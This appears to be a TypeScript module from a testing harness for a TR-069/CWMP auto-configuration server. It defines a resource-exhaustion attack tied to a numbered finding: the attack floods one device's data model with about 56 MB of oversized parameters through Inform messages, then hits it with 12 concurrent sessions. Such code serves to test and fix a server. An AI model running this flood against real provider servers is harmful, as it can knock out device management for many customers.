import { inform } from '../../envelopes.js';
import { RawConnection } from '../../raw-client.js';
import type { Attack, Target } from '../attack.js';
import { askers } from '../sockets.js';
import { LARGE_CLASS, LARGE_SERIAL, largeParameter, SUBTREES } from '../stage-names.js';

/** With their names and markup just below what an Inform may have. */
const NAMES_A_SUBTREE = 880;
const VALUE_CHARACTERS = 1_000;
const PREPARE_MS_MAX = 40_000;

/** One Inform for each subtree, until all are kept or the time is over: 56 MB in all. */
async function fill({ cwmpPort }: Target): Promise<void> {
  const untilMs = performance.now() + PREPARE_MS_MAX;
  const value = 'v'.repeat(VALUE_CHARACTERS);
  for (let subtree = 0; subtree < SUBTREES && performance.now() < untilMs; subtree++) {
    const more = Array.from(
      { length: NAMES_A_SUBTREE },
      (_, index) => [largeParameter(subtree, index), value] as const,
    );
    await session(
      cwmpPort,
      inform(LARGE_SERIAL, ['2 PERIODIC'], '1.0.0', { productClass: LARGE_CLASS, more }),
    );
  }
}

async function session(port: number, body: string): Promise<string> {
  try {
    const connection = await RawConnection.open(port);
    try {
      const { cookie, status } = await connection.post(body, null);
      if (cookie === null) return String(status);
      return String((await connection.post('', cookie)).status);
    } finally {
      connection.close();
    }
  } catch {
    return 'no answer';
  }
}

/** K3: work that grows with what a CPE has reported of itself. */
export const DATA_MODEL: readonly Attack[] = [
  {
    name: 'data-model',
    finding: 11,
    describe: 'One CPE with a data model of 56 MB, in 12 sessions at once, and a rule that reads parameters',
    prepare: fill,
    begin({ cwmpPort }, tally) {
      const body = inform(LARGE_SERIAL, ['2 PERIODIC'], '1.0.0', { productClass: LARGE_CLASS });
      askers(12, tally, () => session(cwmpPort, body));
    },
  },
];
